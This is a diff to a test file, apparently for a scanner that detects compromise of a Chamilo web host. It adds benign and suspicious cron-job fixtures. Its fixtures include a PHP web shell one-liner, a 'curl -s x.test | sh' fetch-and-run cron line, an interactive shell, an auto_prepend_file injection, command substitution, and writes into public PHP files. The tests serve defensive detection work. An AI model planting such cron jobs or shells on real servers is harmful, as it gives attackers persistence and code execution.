@@ -29,6 +29,15 @@ def test_a_clean_host_shows_no_sign(host):
     host.file("var/upload/homework.phps", "<?php system($_GET['x']);")
     host.file("public/main/.htaccess", "SetHandler none\nphp_flag engine off\nAddType font/woff .woff")
     host.jobs.append(Job("/var/spool/cron/crontabs/www-data:1", f"* * * * * php {host.root}/bin/console app:x"))
+    script = host.file("public/main/cron/notification.php", "<?php echo 1;", days=100)
+    for number, line in enumerate(
+        [
+            f"*/5 * * * * php -f {script}",
+            f"0  3 * * mon-fri\t/usr/bin/php8.4 {script} daily >/dev/null 2>&1",
+            f"@hourly php {script} >> /var/log/chamilo/cron.log 2>&1",
+        ]
+    ):
+        host.jobs.append(Job(f"/var/spool/cron/crontabs/www-data:{number + 2}", line))
     host.log.write_text(
         '10.0.0.5 - - [25/Nov/2026:13:00:00 +0000] "GET /.env HTTP/1.1" 200 5 "-" "-"\n'
         '192.0.2.1 - - [25/Nov/2026:13:00:00 +0000] "GET /.env HTTP/1.1" 404 5 "-" "-"\n'
@@ -78,6 +87,32 @@ def admin(**values):
         (request('"POST /main/install/index.php HTTP/1.1"'), "the installer"),
         (
             lambda host: host.jobs.append(Job("/var/spool/cron/crontabs/www-data:1", "* * * * * curl -s x.test | sh")),
+            "a cron job of the web user",
+        ),
+        *(
+            (
+                lambda host, line=line: host.jobs.append(
+                    Job(
+                        "/var/spool/cron/crontabs/www-data:1",
+                        line.format(host.file("public/main/cron/mail.php", "<?php echo 1;", days=100)),
+                    )
+                ),
+                "a cron job of the web user",
+            )
+            for line in (
+                "* * * * * php {} ; sh -i",
+                "* * * * * php -d auto_prepend_file=/x {}",
+                "* * * * * php -r 'x();' {}",
+                "* * * * * php {} $(id)",
+                "* * * * * php {} > /srv/campus/public/x.php",
+                "* * * * * php {}.gone.php",
+            )
+        ),
+        (
+            lambda host: (
+                os.chown(script := host.file("public/main/cron/own.php", "<?php echo 1;", days=100), WEB, WEB)
+                or host.jobs.append(Job("/var/spool/cron/crontabs/www-data:1", f"* * * * * php {script}"))
+            ),
             "a cron job of the web user",
         ),
         (
